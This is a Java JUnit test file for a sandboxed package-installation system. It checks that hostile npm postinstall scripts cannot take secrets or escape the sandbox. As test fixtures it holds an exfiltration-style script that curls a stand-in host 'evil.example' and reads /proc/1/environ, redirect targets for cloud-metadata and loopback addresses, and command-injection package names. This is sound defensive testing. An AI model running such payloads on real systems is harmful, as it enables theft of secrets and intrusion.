package dev.drover.templates;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.drover.base.Ids;
import dev.drover.base.Json;
import dev.drover.base.Pause;
import dev.drover.base.Scope;
import dev.drover.catalog.Environment.Networking;
import dev.drover.catalog.Packages;
import dev.drover.catalog.Packages.Manager;
import dev.drover.gateway.EgressTap;
import dev.drover.gateway.Gateway;
import dev.drover.gateway.NetworkSettings;
import dev.drover.gateway.PackageHosts;
import dev.drover.gateway.PackageSettings;
import dev.drover.gateway.PackageVariables;
import dev.drover.gateway.Policy;
import dev.drover.hands.Egress;
import dev.drover.hands.HandSpec;
import dev.drover.hands.LiveOutput;
import dev.drover.hands.Sandbox;
import dev.drover.hands.Sandboxes;
import dev.drover.hands.ToolCall;
import dev.drover.hands.bwrap.BwrapEngine;
import dev.drover.hands.local.LocalSandboxes;
import dev.drover.hands.local.MemoryMounts;
import dev.drover.hands.local.PackageMounts;
import dev.drover.hands.local.SandboxSettings;
import dev.drover.http.PrivateHosts;
import dev.drover.http.PublicOnly;
import dev.drover.policy.OperatorPolicy;
import dev.drover.session.EventId;
import dev.drover.session.SessionError;
import dev.drover.session.SessionId;
import dev.drover.testing.PackageIndex;
import java.net.InetAddress;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Packages of environments, installed by the real package managers in real sandboxes.
@Tag("sandbox")
final class TemplatesTest {
  private static final String HOST = "mirror.example";
  private static final Ids IDS = Ids.secure();
  private static final AtomicInteger CALLS = new AtomicInteger();
  private static final AtomicReference<Instant> NOW =
      new AtomicReference<>(Instant.parse("2026-01-01T00:00:00Z"));
  private static final TemplateSettings SETTINGS =
      new TemplateSettings(1L << 30, Duration.ofMinutes(5), Duration.ofMinutes(5));

  @TempDir static Path data;

  private static PackageIndex index;
  private static PackageSettings mirrors;
  private static SandboxSettings sandboxSettings;
  private static Gateway gateway;
  private static TemplateWorkshop workshop;
  private static Templates templates;

  @BeforeAll
  static void open() throws Exception {
    index = new PackageIndex();
    index.wheel("tiny", "1.0", "tiny python");
    index.module(HOST, "little", "little node", Map.of());
    mirrors =
        new PackageSettings(
            Map.of("pip", URI.create(index.simple(HOST)), "npm", URI.create(index.registry(HOST))));
    sandboxSettings =
        SandboxSettings.DEFAULT
            .withFirstUid(1_000_000 + new SecureRandom().nextInt(10_000) * 65_536)
            .withLongestCall(SETTINGS.limit())
            .withVariables(PackageVariables.of(mirrors, Path.of("/")));
    var network = new NetworkSettings(Set.of(), Optional.empty(), 1L << 30, Optional.empty());
    var hosts = new PackageHosts(data, mirrors);
    gateway =
        new Gateway(
            _ ->
                new Policy(
                    new Networking.Limited(List.of(), false, true),
                    network.rules(hosts, Set.of("npm", "pip"), OperatorPolicy.NONE)),
            new PublicOnly(
                PrivateHosts.of(List.of(HOST, "evil.example")),
                _ -> new InetAddress[] {InetAddress.ofLiteral("127.0.0.1")}),
            network,
            EgressTap.NONE,
            Pause.REAL);
    workshop = workshop("builds", sandboxSettings, Pause.REAL);
    templates = templates(SETTINGS, workshop);
  }

  private static TemplateWorkshop workshop(
      String directory, SandboxSettings settings, Pause pause) {
    return new TemplateWorkshop(
        _ -> sandboxes(data.resolve(directory), settings, PackageMounts.NONE, gateway),
        gateway::takeRefusals,
        Path.of("/"),
        Optional.empty(),
        IDS,
        pause);
  }

  private static Templates templates(TemplateSettings settings) {
    return templates(settings, workshop);
  }

  private static Templates templates(TemplateSettings settings, TemplateWorkshop workshop) {
    return new Templates(
        data, Path.of("/"), sandboxSettings.variables(), workshop, settings, NOW::get, Pause.REAL);
  }

  private static LocalSandboxes sandboxes(
      Path directory, SandboxSettings settings, PackageMounts packages, Egress egress) {
    try {
      return new LocalSandboxes(
          directory,
          settings,
          BwrapEngine::new,
          MemoryMounts.NONE,
          packages,
          egress,
          LiveOutput.NONE,
          IDS,
          Pause.REAL,
          InstantSource.system());
    } catch (Exception e) {
      throw new AssertionError(e);
    }
  }

  @AfterAll
  static void close() {
    templates.close();
    gateway.close();
    index.close();
  }

  private static Packages packages(Manager manager, String... names) {
    return new Packages(Map.of(manager, List.of(names)));
  }

  private static String bash(Sandbox sandbox, String command) throws InterruptedException {
    var id = new EventId("sevt_p" + CALLS.incrementAndGet());
    return sandbox
        .execute(
            new ToolCall(id, "bash", Json.obj("command", command, "timeout_ms", 120_000)),
            () -> false)
        .text();
  }

  private static long downloads(String file) {
    return index.asked().stream().filter(path -> path.endsWith(file)).count();
  }

  private static Sandboxes.Unavailable failure(Packages packages) {
    return failure(templates, packages);
  }

  private static Sandboxes.Unavailable failure(Templates templates, Packages packages) {
    var thrown = new AtomicReference<Sandboxes.Unavailable>();
    assertThatThrownBy(() -> templates.await(packages))
        .isInstanceOfSatisfying(Sandboxes.Unavailable.class, thrown::set);
    return thrown.get();
  }

  @Test
  void manySessionsStartOneInstallationAndTheirSandboxesShowIt() throws Exception {
    var both =
        new Packages(Map.of(Manager.PIP, List.of("tiny==1.0"), Manager.NPM, List.of("little")));
    try (var scope = new Scope()) {
      var tasks = new ArrayList<Scope.Task<Boolean>>();
      for (int i = 0; i < 50; i++) {
        tasks.add(
            scope.fork(
                () -> {
                  templates.await(both);
                  return true;
                }));
      }
      for (var task : tasks) {
        assertThat(task.join()).isTrue();
      }
    }
    assertThat(downloads("tiny-1.0-py3-none-any.whl")).isEqualTo(1);
    assertThat(downloads("little-1.0.0.tgz")).isEqualTo(1);
    var session = new SessionId("sesn_packages");
    try (var all =
        sandboxes(
            data.resolve("sessions"),
            sandboxSettings,
            (_, directory) -> templates.use(both, directory),
            Egress.NONE)) {
      try (var sandbox = all.provision(HandSpec.workspace(session))) {
        assertThat(bash(sandbox, "tiny-says; little-says; node -p 'require(\"little\")'"))
            .isEqualToIgnoringWhitespace("tiny python little node little node");
        assertThat(bash(sandbox, "python3 -c 'import tiny; print(tiny.__file__)'; pip list"))
            .contains("/opt/drover/python/tiny.py", "tiny");
        assertThat(bash(sandbox, "touch /opt/drover/x; echo >> /opt/drover/python/tiny.py"))
            .contains("Read-only file system");
      }
      all.discard(session);
    }
  }

  @Test
  void whatAPackageDoesWhenItIsInstalledHasNoConsequences() throws Exception {
    var web = index.registry("evil.example");
    index.module(
        HOST,
        "hostile",
        "hostile",
        Map.of(
            "postinstall",
            "env > env; id > id; curl -s -m 10 "
                + web
                + "stolen > page; cat /proc/1/environ > init;"
                + " ls /workspace /mnt /mnt/session/uploads > seen;"
                + " cp /bin/true run; chmod 6777 run; ln -s /etc/passwd link; ln seen twin"));
    var packages = packages(Manager.NPM, "hostile");
    templates.await(packages);
    var hand = Files.createDirectories(data.resolve("hand_hostile"));
    var made = templates.use(packages, hand).orElseThrow().resolve("npm/lib/node_modules/hostile");
    assertThat(made.resolve("env")).content().contains("HOME=").doesNotContain("KEY", "DROVER");
    assertThat(made.resolve("page")).content().contains("evil.example").contains("was refused");
    assertThat(index.asked()).doesNotContain("/stolen");
    assertThat(made.resolve("init")).isEmptyFile();
    assertThat(made.resolve("seen")).content().doesNotContain("hostile.txt", "drover.db");
    assertThat(made.resolve("id")).content().startsWith("uid=1000");
    assertThat(Files.getPosixFilePermissions(made.resolve("run"))).hasSize(7);
    assertThat((int) Files.getAttribute(made.resolve("run"), "unix:mode") & 07000).isZero();
    assertThat(made.resolve("link")).isSymbolicLink();
    assertThat(made.resolve("twin")).hasSameTextualContentAs(made.resolve("seen"));
    Files.delete(hand);
  }

  @Test
  void aRedirectLeadsAPackageToNoOtherAddress() throws Exception {
    try (var canary = new PackageIndex()) {
      canary.file("/stolen", new byte[] {'x'});
      var places =
          List.of(
              "http://127.0.0.1:%d/stolen".formatted(canary.port()),
              "http://[::ffff:127.0.0.1]:%d/stolen".formatted(canary.port()),
              "http://2130706433:%d/stolen".formatted(canary.port()),
              "http://169.254.169.254/stolen",
              "http://evil.example:%d/stolen".formatted(canary.port()),
              "http://%s:%d/stolen".formatted(HOST, canary.port()));
      var script = new StringBuilder();
      for (int i = 0; i < places.size(); i++) {
        index.redirect("/moved/" + i, places.get(i));
        script.append(
            "curl -sfL -m 60 %smoved/%d && touch reached; ".formatted(index.registry(HOST), i));
      }
      index.module(HOST, "moved", "moved", Map.of("postinstall", script + "true"));
      var packages = packages(Manager.NPM, "moved");
      templates.await(packages);
      var hand = Files.createDirectories(data.resolve("hand_moved"));
      var made = templates.use(packages, hand).orElseThrow().resolve("npm/lib/node_modules/moved");
      assertThat(made.resolve("index.js")).exists();
      assertThat(made.resolve("reached")).doesNotExist();
      assertThat(canary.asked()).isEmpty();
      for (int i = 0; i < places.size(); i++) {
        assertThat(index.asked()).contains("/moved/" + i);
      }
      Files.delete(hand);
    }
  }

  @Test
  void anInstallationThatDoesNotEndIsEndedWithAllItsProcesses() {
    index.module(
        HOST, "endless", "endless", Map.of("postinstall", "echo begun; setsid sleep 3071 & wait"));
    var settings = new TemplateSettings(1L << 30, Duration.ofSeconds(4), Duration.ZERO);
    var hurried = templates(settings);
    assertThat(failure(hurried, packages(Manager.NPM, "endless")).getMessage())
        .startsWith("npm could not install the packages of this environment (endless): it did not");
    assertThat(ProcessHandle.allProcesses())
        .noneMatch(process -> process.info().commandLine().orElse("").contains("sleep 3071"));
  }

  @Test
  void aCopyThatTakesTooLongIsEndedWithItsSandbox() {
    index.module(
        HOST, "large", "large", Map.of("postinstall", "head -c 50000000 /dev/zero > zero"));
    try (var shop = workshop("impatient", sandboxSettings, _ -> {})) {
      assertThat(failure(templates(SETTINGS, shop), packages(Manager.NPM, "large")).getMessage())
          .startsWith("The packages of this environment could not be copied in time");
    }
  }

  @Test
  void anInstallationThatFillsTheDiskIsRefused() throws Exception {
    index.module(HOST, "heavy", "heavy", Map.of("postinstall", "head -c 3000000 /dev/zero > zero"));
    var small = templates(new TemplateSettings(2L << 20, Duration.ofMinutes(5), Duration.ZERO));
    assertThat(failure(small, packages(Manager.NPM, "heavy")).getMessage())
        .startsWith("The packages of this environment")
        .containsAnyOf("have more than 2 MiB", "have more than 2097152 bytes");
    index.module(HOST, "full", "full", Map.of("postinstall", "yes > /workspace/fill"));
    var bounded = SandboxSettings.DEFAULT.limits().withWorkspace(64L << 20, 100_000);
    try (var shop = workshop("bounded", sandboxSettings.withLimits(bounded), Pause.REAL)) {
      var full = templates(SETTINGS, shop);
      assertThat(failure(full, packages(Manager.NPM, "full")).getMessage())
          .startsWith("npm could not install the packages of this environment (full): it");
    }
  }

  @Test
  void aFailureNamesWhatFailedAndIsNotRepeatedForAWhile() throws Exception {
    var packages = packages(Manager.PIP, "late==3.0", "tiny");
    var failure = failure(packages);
    assertThat(failure.getMessage())
        .startsWith(
            "pip could not install the packages of this environment (late==3.0, tiny): it ended"
                + " with exit code 1. Its last output:\n")
        .contains("No matching distribution found for late==3.0")
        .contains("\nAnother attempt is made at the next call, 300 s after this one")
        .endsWith("\nThis call did not run.");
    assertThat(failure.error())
        .hasValueSatisfying(
            error -> {
              assertThat(error.retry()).isEqualTo(SessionError.Retry.RETRYING);
              assertThat(error.message()).contains("late==3.0").doesNotContain("did not run");
            });
    index.wheel("late", "3.0", "late");
    assertThat(failure(packages).getMessage()).isEqualTo(failure.getMessage());
    assertThat(failure(packages(Manager.PIP, "late==3.0", "absent")).getMessage())
        .contains("absent");
    NOW.updateAndGet(now -> now.plus(SETTINGS.pause()));
    templates.await(packages);
    assertThat(downloads("late-3.0-py3-none-any.whl")).isPositive();
  }

  @Test
  void aFailureSaysWhichHostWasRefusedAndWhy() {
    var url = index.registry("evil.example") + "stolen.tgz";
    assertThat(failure(packages(Manager.NPM, "little@" + url)).getMessage())
        .containsOnlyOnce("[network: evil.example")
        .contains("was refused: it is not in this environment's allowed hosts");
  }

  @Test
  void aDamagedTemplateIsMadeAnewByTheNextServer() throws Exception {
    index.wheel("whole", "1.0", "whole");
    var packages = packages(Manager.PIP, "whole");
    templates.await(packages);
    var hand = Files.createDirectories(data.resolve("hand_damaged"));
    var file = templates.use(packages, hand).orElseThrow().resolve("python/whole.py");
    Files.delete(hand);
    var content = Files.readString(file);
    templates(SETTINGS).await(packages);
    assertThat(downloads("whole-1.0-py3-none-any.whl")).isEqualTo(1);
    Files.writeString(file, content.replace("whole", "other"));
    templates(SETTINGS).await(packages);
    assertThat(downloads("whole-1.0-py3-none-any.whl")).isEqualTo(2);
    assertThat(file).hasContent(content);
  }

  @Test
  void noPackageIsPartOfAScript() {
    var packages = packages(Manager.PIP, "$(touch /workspace/template/x)", "a; reboot", "`id`");
    assertThat(failure(packages).getMessage()).contains("exit code 1", "$(touch");
  }
}
